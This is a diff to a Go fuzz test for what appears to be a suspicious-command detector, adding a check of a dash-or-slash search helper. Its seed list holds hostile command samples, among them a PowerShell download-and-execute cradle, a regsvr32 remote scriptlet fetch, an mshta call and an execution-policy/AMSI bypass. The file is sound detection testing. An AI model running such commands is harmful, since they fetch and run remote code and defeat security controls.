@@ -72,14 +72,14 @@ func TestLitTableFindsEveryLiteral(t *testing.T) {
 }
 
 // FuzzTextLiterals: the one-pass literal search gives what one
-// strings.Contains per literal gives, and textIndicators what it gave
-// before it.
+// strings.Contains per literal gives, nextOf what strings.IndexAny gives,
+// and textIndicators what it gave before them.
 func FuzzTextLiterals(f *testing.F) {
 	for _, s := range []string{
 		`powershell -w 1 -nop -c "iex (new-object net.webclient).downloadstring('http://x/a')"`,
 		`{ write-host hi }.invoke()`, `[reflection.assembly]::load($b)`, `mshta vbscript:execute("x")`,
 		`start /min cmd /c calc`, `pwsh -ec SQBFAFgA`, `set-executionpolicy bypass; amsiutils`,
-		`regsvr32 /s /i:http://x/a.sct scrobj.dll`, `io.compression.gzipstream`, "ie", "pows",
+		`regsvr32 /s /i:http://x/a.sct scrobj.dll`, `io.compression.gzipstream`, "ie", "pows", "a-/b//c--d-", "/",
 	} {
 		f.Add(s)
 	}
@@ -90,6 +90,21 @@ func FuzzTextLiterals(f *testing.F) {
 			if got, want := hits.any(litGroup(1)<<i), strings.Contains(low, w); got != want {
 				t.Fatalf("scan finds %q: %v, strings.Contains: %v", w, got, want)
 			}
+		}
+		var next nextOf
+		for off := 0; off <= len(low); {
+			want := strings.IndexAny(low[off:], "-/")
+			if want >= 0 {
+				want += off
+			}
+			got := next.dashOrSlash(low, off)
+			if got != want {
+				t.Fatalf("dashOrSlash(%q, %d) = %d, strings.IndexAny: %d", low, off, got, want)
+			}
+			if got < 0 {
+				break
+			}
+			off = got + 1
 		}
 		if got, want := textIndicators(text), textIndicatorsByIndex(text); !slices.Equal(got, want) {
 			t.Fatalf("textIndicators(%q) = %q, before textLits %q", text, got, want)
